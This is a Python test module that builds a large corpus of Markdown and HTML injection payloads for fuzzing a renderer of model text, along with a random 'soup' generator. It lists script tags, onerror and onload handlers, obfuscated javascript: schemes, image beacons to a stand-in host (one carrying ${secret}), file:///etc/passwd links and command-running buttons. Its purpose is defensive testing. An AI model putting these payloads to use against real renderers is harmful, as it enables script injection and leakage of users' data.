"""Nasty model text: every known way to make Markdown act, each in every wrapping, and endless random soup.

What fires says so: pictures and frames ask ``SINK`` for something, scripts call ``pwned``, buttons name a command.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import NamedTuple

SINK = "https://sink.invalid"


class Payload(NamedTuple):
    """A text that must stay inert, and which trick it is."""

    kind: str
    text: str


_HTML = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=https://sink.invalid/x.js></SCRIPT>",
    "<img src=x onerror=pwned()>",
    '<img src="https://sink.invalid/pixel.png">',
    "<img/src=x/onerror=pwned()>",
    "<img\nsrc=x\nonerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '<svg><image href="https://sink.invalid/i"/></svg>',
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    '<iframe src="data:text/html,<script>pwned()</script>">',
    '<object data="https://sink.invalid/o"></object>',
    '<embed src="https://sink.invalid/e">',
    "<video src=https://sink.invalid/v poster=https://sink.invalid/p autoplay>",
    "<audio src=https://sink.invalid/a autoplay onerror=pwned()>",
    '<picture><source srcset="https://sink.invalid/s"><img src=x></picture>',
    '<link rel=stylesheet href="https://sink.invalid/c.css">',
    '<link rel=prefetch href="https://sink.invalid/f">',
    "<style>@import url(https://sink.invalid/i.css)</style>",
    "<style>@font-face{font-family:f;src:url(https://sink.invalid/f)}*{font-family:f}</style>",
    '<div style="background:url(https://sink.invalid/b)">x</div>',
    '<base href="https://sink.invalid/">',
    '<meta http-equiv=refresh content="0;url=https://sink.invalid">',
    '<form action="https://sink.invalid"><button>send</button></form>',
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<body onload=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    '<a href="javascript:pwned()">x</a>',
    '<a href="https://sink.invalid" ping="https://sink.invalid/ping">x</a>',
    '<a data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</a>',
    '<button data-commandlinker-command="apputils:reset">Ok</button>',
    '<span data-commandlinker-command="docmanager:save">x</span>',
    "<b id=x onclick=pwned()>x</b>",
    "<math><mi xlink:href='javascript:pwned()'>x</mi></math>",
    "<template><img src=x onerror=pwned()></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<textarea></textarea><img src=x onerror=pwned()>",
    "<!-- --><img src=x onerror=pwned()><!-- -->",
    "<!--><img src=x onerror=pwned()>-->",
    "<?php ?><img src=x onerror=pwned()>",
    "<!DOCTYPE html><img src=x onerror=pwned()>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "</p><img src=x onerror=pwned()>",
    "<x onmouseover=pwned() style=position:fixed>",
    "<custom-element onclick=pwned()>",
    "<img src=x onerror=pwned()",
    "<<img src=x onerror=pwned()>",
    "<\x00img src=x onerror=pwned()>",
    "<img\x0csrc=x\x0conerror=pwned()>",
    "<\u202eimg src=x onerror=pwned()>",
)
_PICTURES = (
    "![a](https://sink.invalid/p.png)",
    "![](https://sink.invalid/p.png)",
    '![a](https://sink.invalid/p.png "title")',
    "![a](<https://sink.invalid/p.png>)",
    "![a](//sink.invalid/p.png)",
    "![a]( https://sink.invalid/p.png )",
    "![a](\nhttps://sink.invalid/p.png)",
    "![a\nb](https://sink.invalid/p.png)",
    "![a [b] c](https://sink.invalid/p.png)",
    "![`a`](https://sink.invalid/p.png)",
    "![a](https://sink.invalid/p(1).png)",
    "![a](https&#58;//sink.invalid/p.png)",
    "![a](https\\://sink.invalid/p.png)",
    "![a](HTTPS://sink.invalid/p.png)",
    "![a](/logout)",
    "![a](../api/kernels)",
    "![a](attachment:p.png)",
    "![a](file:///etc/passwd)",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a](data:image/svg+xml,%3Csvg%20onload=pwned()%3E)",
    "![a](blob:https://sink.invalid/1)",
    "![a][r]\n\n[r]: https://sink.invalid/p.png",
    "![r]\n\n[r]: https://sink.invalid/p.png",
    "![r][]\n\n[r]: <https://sink.invalid/p.png> 'title'",
    "![R][]\n\n[r]:\nhttps://sink.invalid/p.png",
    "[![a](https://sink.invalid/p.png)](https://example.com)",
    "[![a][r]](https://example.com)\n\n[r]: https://sink.invalid/p.png",
    "\\\\![a](https://sink.invalid/p.png)",
    "\\!![a](https://sink.invalid/p.png)",
    "!\\![a](https://sink.invalid/p.png)",
    "[[!\\[a](https://sink.invalid/p.png)](https://example.com)",
    "[[!\\![a](https://sink.invalid/p.png)](https://example.com)",
    "*![a](https://sink.invalid/p.png)*",
    "~~![a](https://sink.invalid/p.png)~~",
    "!![a](https://sink.invalid/p.png)",
    "!!!![a](https://sink.invalid/p.png)",
    "![![a](https://sink.invalid/p.png)](https://sink.invalid/q.png)",
    "![a](https://sink.invalid/${secret})",
)
_SCHEMES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "\tjavascript:pwned()",
    "\u00a0javascript:pwned()",
    "\u2028javascript:pwned()",
    "java\tscript:pwned()",
    "java&#115;cript:pwned()",
    "javascript&colon;pwned()",
    "javascript&#x3a;pwned()",
    "java&Tab;script:pwned()",
    "java&NewLine;script:pwned()",
    "&#x6A;avascript:pwned()",
    "&#0000106avascript:pwned()",
    "java\\script:pwned()",
    "javascript\\:pwned()",
    "java\x00script:pwned()",
    "\x01javascript:pwned()",
    "vbscript:msgbox(1)",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=pwned()>",
    "file:///etc/passwd",
    "blob:https://sink.invalid/1",
    "ftp://sink.invalid/x",
    "command:workbench.action.terminal.new",
    "vscode://file/etc/passwd",
    "view-source:javascript:pwned()",
    "feed:javascript:pwned()",
    "jar:javascript:pwned()",
    "x-javascript:pwned()",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "[x]( {} )",
    "[x](\n{})",
    '[x]({} "title")',
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x][y]\n\n[y]: <{}>",
    "[x]\n\n[x]:\n{}\n",
    "[x]\n\n[x]: {} 'title'",
    "[x]\n\n> [x]: {}",
    "[x y]\n\n[x\ny]: {}",
    "[`x`]({})",
    "[[x]({})]({})",
    "[x](https://a.example/)[y]({})",
)
_FORMULAS = (
    'https://a.example/$" onmouseover="pwned()$',
    'www.a.example/$" onmouseover="pwned()$',
    '[x](https://a.example/$"onmouseover="pwned()"$)',
    '[x](https://a.example/ "$" onmouseover="pwned()$")',
    '<https://a.example/$" onmouseover="pwned()$>',
    '[x]: https://a.example/$"onmouseover="pwned()"$\n\n[x]',
    "[x]: https://a.example/ '$\" onmouseover=\"pwned()$'\n\n[x]",
    'https://a.example/\\begin{a}" onmouseover="pwned()\\end{a}',
    'https://a.example/\\\\(" onmouseover="pwned()\\\\)',
    'https://a.example/\\\\[" onmouseover="pwned()\\\\]',
    'https://a.example/<b$" onmouseover="pwned()$',
    '[x](https://a.example/)$" onmouseover="pwned()$',
    '](https://a.example/)$" onmouseover="pwned()$',
    '```$" onmouseover="pwned()$\nx\n```',
    '```py" onmouseover="pwned()\nx\n```',
    '~~~py" onmouseover="pwned()\nx\n~~~',
    '- [ ] ```py" onmouseover="pwned()\n  x\n  ```',
    '> ```py" onmouseover="pwned()\n> x\n> ```',
    ': ```py" onmouseover="pwned()\n  x\n  ```',
    "$\n```\n$\n<img src=x onerror=pwned()>",
    "$\n```\n<img src=x onerror=pwned()>\n```\n$",
    "$$\n\n```\n$$ <img src=x onerror=pwned()>\n```",
    "- $$\n\n$$\n\n```\n$$ <img src=x onerror=pwned()>\n```",
    "\\begin{a}\n\n```\n\\end{a} <img src=x onerror=pwned()>\n```",
    "\\\\\\[\n\n```\n<img src=x onerror=pwned()>\n```\n\n\\\\]",
    "$\n$$\n\n~~~\n<img src=x onerror=pwned()>\n~~~\n$$",
    "```\n\\begin{a}\n```\n\\end{a}\n\n```\n<img src=x onerror=pwned()>\n```",
    "$\\href{javascript:pwned()}{x}$",
    "$\\style{background:url(https://sink.invalid/b)}{x}$",
    '$\\class{x" onclick="pwned()}{y}$',
    "$\\html{<img src=x onerror=pwned()>}$",
    "$$\\unicode{<script>pwned()</script>}$$",
    "$x</script><img src=x onerror=pwned()>$",
    '@@0@@ $x$ https://a.example/@@0@@$" onmouseover="pwned()$',
)
_CODE = (
    "`a\n`<img src=x onerror=pwned()>`",
    "``a`<img src=x onerror=pwned()>``b`",
    "`` ` <img src=x onerror=pwned()> `",
    "\\`<img src=x onerror=pwned()>`",
    "\\``<img src=x onerror=pwned()>`",
    "~`<img src=x onerror=pwned()>`",
    "~~a `b~~<img src=x onerror=pwned()>`",
    "[a](x`y) <img src=x onerror=pwned()> `",
    "[```](x)<img src=x onerror=pwned()>```",
    "https://a.example/`<img src=x onerror=pwned()>`",
    "www.a.example`<img src=x onerror=pwned()>`",
    "<= x\n*a `>` `*<img src=x onerror=pwned()>`",
    "*a ``b`c`` `d*<img src=x onerror=pwned()>`",
    "| a | b |\n|---|---|\n| `a|<img src=x onerror=pwned()>|` |",
    "a | b\n--|--\n`a|<img src=x onerror=pwned()>`",
    "`$a`<img src=x onerror=pwned()>`$`",
    "`\\begin{a}` \\end{a} `<img src=x onerror=pwned()>`",
    '[a]: x "title\n\n```\n"\n<img src=x onerror=pwned()>\n```',
    '[a]: x\n\n"title\n\n```\n<img src=x onerror=pwned()>\n```\n"\n<img src=x onerror=pwned()>',
    '[a](x "t\n`y") <img src=x onerror=pwned()> `',
    "```\n~~~\n<img src=x onerror=pwned()>\n```\n~~~",
    "```\n```~~~\n<img src=x onerror=pwned()>\n```",
    "```\n```\u00a0\n<img src=x onerror=pwned()>\n```",
    "```\n```\t\n<img src=x onerror=pwned()>\n```",
    "```a`b\n<img src=x onerror=pwned()>\n```",
    "~~~\n~~~~\n<img src=x onerror=pwned()>\n~~~",
    "````\n```\n````\n<img src=x onerror=pwned()>\n```",
    "  ```\n<img src=x onerror=pwned()>\n  ```\n<img src=x onerror=pwned()>",
    "    ```\n<img src=x onerror=pwned()>\n    ```",
    "\t```\n<img src=x onerror=pwned()>\n\t```",
    "a\n    ```\n    <img src=x onerror=pwned()>\n\n    ```",
    "- a\n  ```\n <img src=x onerror=pwned()>\n  ```",
    "- ```\n  ```\n  <img src=x onerror=pwned()>\n  ```",
    "1. a\n  ```\n  <img src=x onerror=pwned()>\n  ```",
    "a\n2. ```\n   <img src=x onerror=pwned()>\n   ```",
    "- [ ] ```\n  <img src=x onerror=pwned()>\n  ```",
    "- > ```\n  ```\n  <img src=x onerror=pwned()>\n  ```",
    "> ```\n<img src=x onerror=pwned()>\n> ```",
    "> ```\n> ```\n> <img src=x onerror=pwned()>\n> ```",
    "term\n```\n: <img src=x onerror=pwned()>\n```",
    "[^1]: ```\n    <img src=x onerror=pwned()>\n    ```",
    "    <img src=x onerror=pwned()>",
    "a\n    <img src=x onerror=pwned()>",
    "- a\n\n      <img src=x onerror=pwned()>",
    "# a `b\n<img src=x onerror=pwned()>`",
    "a `b\n---\n<img src=x onerror=pwned()>`",
    "`a\n===\n`<img src=x onerror=pwned()>",
    "- `a\n- `<img src=x onerror=pwned()>",
    "```mermaid\nA@{ img: 'https://sink.invalid/m.png' }\n```",
    "```mermaid\ngraph TD\nA[<img src=x onerror=pwned()>]\n```",
    '```mermaid\nclick A href "javascript:pwned()"\n```',
    "```mermaid\n%%{init: {'themeCSS': 'a{background:url(https://sink.invalid/t)}'}}%%\nA-->B\n```",
    "> ```mermaid\n> <img src=x onerror=pwned()>\n> ```",
    "\ufeff```\n<img src=x onerror=pwned()>\n```\n<img src=x onerror=pwned()>",
    "```\r<img src=x onerror=pwned()>\r```\r<img src=x onerror=pwned()>",
    "```\u2028<img src=x onerror=pwned()>\u2028```",
    "&lt;img src=x onerror=pwned()&gt; &#60;script&#62;",
    # Found by the fuzz, one each of their kind.
    "[``a``b`](x)<img src=x onerror=pwned()>`",
    "[` ``](t:)`",
    "` `~`<img src=x onerror=pwned()>`",
    "~~a`~~`x`<img src=x onerror=pwned()>`",
    "`\\begin{a}`\\end{a}`<img src=x onerror=pwned()>`",
    "`\\begin{a}\n\n\\end{a}`<img src=x onerror=pwned()>`",
    "`\\\\]$$\\\\]``\n\n`<img src=x onerror=pwned()>`$$",
    '```\\\\(```" onmouseover="pwned()\\\\)',
    "<=*a`>``*<`e`<img src=x onerror=pwned()>`",
    "b\n    <t\n*`>` `*<img src=x onerror=pwned()>`",
    "`\n    ```\n    ```\n`<img src=x onerror=pwned()>`",
    "e$$\n$$\n\n```\n$$ <img src=x onerror=pwned()>\n```",
    "$$\n```\n$$\n```\n```\n<img src=x onerror=pwned()>",
    "[\n```\n]:e\n```\n<img src=x onerror=pwned()>\n```",
    ">- `\n`\n>- `\n:\n>- b\n)\n\n`<img src=x onerror=pwned()>`",
    ">>`\n> ```\nt\n\n```\n<img src=x onerror=pwned()>\n```",
    "b\n: \n  ```\n  ```\n```\n: <img src=x onerror=pwned()>\n```",
    "[x]\n\n[x]:t: ![](data:,)",
    "](mailto:ftp://b)",
    'http://a<a$" onmouseover="pwned()$',
    '[a]:$" onmouseover="pwned()$\n\n[a]',
)
_WRAPPINGS = (
    "{}",
    "Some words\n{}\nand more.",
    "- item\n\n  {}\n",
    "1. {}",
    "> {}",
    "> - {}",
    "# {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "**{}**",
    "*a {} b*",
    "[{}](https://example.com)",
    "`code` {} `code`",
    "```\ncode\n```\n{}",
    "{}\n```\ncode\n```",
    "\t{}",
    "$a<b$ {} $c$",
    "<{}>",
    "- a\n  - b\n    {}\n",
    "{}\r\n===\r\n",
    "x\n\n{}",
)


def payloads() -> list[Payload]:
    """Return every trick in every wrapping, always in the same order, none twice."""
    links = [shape.replace("{}", scheme) for shape in _LINKS for scheme in _SCHEMES]
    found: dict[str, str] = {}
    for kind, texts in (("html", _HTML), ("picture", _PICTURES), ("formula", _FORMULAS), ("code", _CODE)):
        for text in texts:
            for wrapping in _WRAPPINGS:
                found.setdefault(wrapping.replace("{}", text), kind)
    for number, text in enumerate(links):
        found.setdefault(text, "link")
        found.setdefault(_WRAPPINGS[number % len(_WRAPPINGS)].replace("{}", text), "link")
    return [Payload(kind, text) for text, kind in found.items()]


_IMG = "<img src=x onerror=pwned()>"
_GROUPS: tuple[tuple[str, ...], ...] = (
    ("```", "````", "~~~", "~~~~", "```js", '```py" onx="y', "```html", "   ```", "  ```", "    ```", "``` ", "```\t", "~~~`", "```~"),
    ("`", "`", "``", "` `", "`a`", "`<b>`", "`a|b`", "```"),
    (_IMG, "<b>", "<script>", "</p>", "<!--", "-->", "<?x?>", "<div>", '<a href="javascript:x">', "<x", "<", "<3", "<= ", "< "),
    ("$", "$$", "\\$", "\\\\(", "\\\\)", "\\\\[", "\\\\]", "\\begin{a}", "\\end{a}", "{", "}", "\\(", "\\)", "\\["),
    ("[", "]", "](", "](https://a.b)", "](javascript:x)", "](x", "[a]", "[a]: ", "[a]: x", "[a]:", "]:", "(", ")", "[^1]: "),
    ("![", "![a](http://e/p)", "![a][b]", "](<", '](x "t', '[x](y "t")', "[x](https://a.b)", "[![", "![a](data:x,y)", "!", "!\\[", "\\]", "\\![", "[["),
    ('"', "'", '" onx="y', "(", ")", '"t"'),
    ("- ", "* ", "1. ", "2) ", "> ", ">", "   ", "    ", "\t", "- [ ] ", ": ", "# ", "===", "---", "10. ", "+ ", "  "),
    ("|", "| a | b |", "|-|-|", "a | b", "--|--", ":-:"),
    ("*", "**", "_", "__", "~~", "~", "\\", "\\`", "&#96;", "&lt;", "&"),
    ("https://a.b", "https://a/$", "www.a.b", "ftp://x", "a@b.c", "<https://a.b>", "<javascript:x>", "http://", "://", "mailto:"),
    ("@@0@@", "@@1", "@@", "\u00a0", "\u200b", "\ufeff", "\u2028", "\r", "\x00", "é", "日"),
)  # fmt: skip
_PARTS = (
    '$" onx="$', f"`{_IMG}`", f"\n```\n{_IMG}\n```\n", f"\n   ```\n   {_IMG}\n   ```\n", "\n~~~\n<b>\n~~~\n",
    "\n- a\n  ```\n  <b>\n  ```\n", "\n> ```\n> <b>\n> ```\n", "\n    <b>\n", "![a](https://e/p.png)", "[x](javascript:y)",
)  # fmt: skip
_FILLING = ("\n", "\n", "\n\n", " ", "a", "b c", "")
_LEADS = (
    "",
    "",
    "",
    "- ",
    "  ",
    "    ",
    "> ",
    "1. ",
    "   ",
    "  - ",
    "> > ",
    "\t",
    ": ",
    "# ",
    "- - ",
    "| ",
    "12. ",
    "> - ",
)
_LINES = (
    "```", "```", "~~~", "````", "```js", _IMG, "`<b>`", f"`{_IMG}`", "a `b", "c` d", "$", "$$", "a $x$ b", "\\begin{a}",
    "\\end{a}", "[a]: x", '[a]: x "t', '"', "text", "", "", "", "- ", "---", "===", "| a | b |", "|---|---|", "a | b",
    "![a](http://e/p)", "[x](javascript:y)", "*a", "b*", "~~a", "<= b", "https://a/$", "\\\\[", "\\\\]", "``", "[", "](x)",
)  # fmt: skip


SIGNS = tuple(dict.fromkeys(sign for group in (*_GROUPS, _PARTS, _FILLING) for sign in group))


def random_texts(seed: int) -> Iterator[str]:
    """Yield texts without end: soup of signs from a few groups, blocks nested without sense, pieces of payloads."""
    rng = random.Random(seed)
    known = [payload.text for payload in payloads()]
    while True:
        yield _soup(rng)
        yield _nest(rng)
        yield _splice(rng, known)


def _soup(rng: random.Random) -> str:
    signs = [sign for group in rng.sample(_GROUPS, rng.randint(1, 4)) for sign in group] + rng.sample(_PARTS, 2)
    return "".join(rng.choice(signs if rng.random() < 0.6 else _FILLING) for _ in range(rng.randint(3, 22)))


def _nest(rng: random.Random) -> str:
    leads = rng.sample(_LEADS, rng.randint(1, 3))
    lines = [*rng.sample(_LINES, rng.randint(2, 6)), "", "```", _IMG]
    return "\n".join(
        (rng.choice(leads) if rng.random() < 0.7 else "") + rng.choice(lines) for _ in range(rng.randint(3, 14))
    )


def _splice(rng: random.Random, known: list[str]) -> str:
    parts = []
    for text in rng.choices(known, k=rng.randint(2, 4)):
        start, end = sorted((rng.randint(0, len(text)), rng.randint(0, len(text))))
        parts.append(rng.choice((text, text[start:end], text[:end], text[start:])))
        parts.append(rng.choice(("", "\n", "\n\n", " ", "`", "\n```\n", "\n   ", rng.choice(SIGNS))))
    return "".join(parts)
